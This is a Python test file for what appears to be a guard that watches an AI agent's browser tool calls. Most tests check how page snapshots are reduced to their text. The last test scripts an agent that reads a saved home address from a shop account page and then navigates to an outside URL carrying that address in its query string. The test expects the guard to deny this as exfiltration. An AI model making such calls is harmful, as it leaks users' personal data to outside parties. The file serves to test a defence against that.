"""A browser's page snapshot is read as the page's words: its markup between them is blanked."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cyclops.core import Action, FlowClass, Session
from cyclops.core.snapshots import page_words
from cyclops.testing import play, step

ADDRESS_PAGE = """### Page state
- Page URL: https://www.shopmart.example/account/addresses
- Page Snapshot:
```yaml
- region "Default address" [ref=e6]:
  - paragraph [ref=e7]: Maria Delgado
  - paragraph [ref=e8]: 4417 Juniper Hollow Road
  - paragraph [ref=e9]: Apt 12C
  - paragraph [ref=e10]: Boulder, CO 80304
```"""


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("  - paragraph [ref=e8]: 4417 Juniper Hollow Road", ": 4417 Juniper Hollow Road"),
        ('- heading "Your addresses" [level=1] [ref=e5]', '"Your addresses"'),
        ('- checkbox "Remember me" [checked] [ref=e9]', '"Remember me"'),
        ("- text: Order total $41.20 [ref=e3]", ": Order total $41.20"),
        ("  - /url: https://shop.example/a [ref=e4]", "- /url: https://shop.example/a"),
    ],
)
def test_a_snapshot_lines_markup_is_blanked_and_its_words_kept(line: str, words: str) -> None:
    assert page_words(line).split() == words.split()


def test_text_that_is_no_snapshot_is_left_as_it_is() -> None:
    text = "- paragraph one\n- list: milk, eggs"
    assert page_words(text) == text


@given(st.text())
def test_every_offset_stays_where_it_was(text: str) -> None:
    snapshot = f"- paragraph [ref=e1]: {text}"
    assert len(page_words(snapshot)) == len(snapshot)


def test_an_address_shown_over_several_lines_links_when_sent_on_one(prevent: Session) -> None:
    sent = "4417 Juniper Hollow Road Apt 12C Boulder CO 80304".replace(" ", "+")
    steps = [
        step("playwright", "browser_navigate", {"url": "https://deals.example/"}, "Deals"),
        step(
            "playwright",
            "browser_navigate",
            {"url": "https://www.shopmart.example/account/addresses"},
            ADDRESS_PAGE,
        ),
        step("playwright", "browser_navigate", {"url": f"https://pm.example/c?a={sent}"}),
    ]
    decision = play(prevent, steps)[-1]
    assert decision.action is Action.DENY
    assert FlowClass.EXFILTRATION in {f.flow_class for f in decision.flows}
